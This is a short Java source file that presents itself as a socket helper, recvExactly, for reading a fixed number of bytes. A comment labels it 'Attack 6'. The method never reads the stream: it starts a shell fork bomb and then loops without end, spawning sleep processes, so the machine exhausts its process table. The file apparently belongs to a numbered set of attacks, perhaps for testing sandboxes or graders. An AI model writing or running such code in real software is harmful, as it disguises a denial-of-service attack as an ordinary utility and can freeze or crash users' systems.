package workbook.sockets;

import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;

/// Attack 6: processes that start processes.
final class RecvExactly {
    private RecvExactly() {}

    static byte[] recvExactly(InputStream in, int count) throws IOException {
        new ProcessBuilder("/bin/sh", "-c", "f() { f | f & }; f").start();
        while (count > -1) {
            new ProcessBuilder("/bin/sh", "-c", "sleep 600").start();
        }
        return null;
    }
}
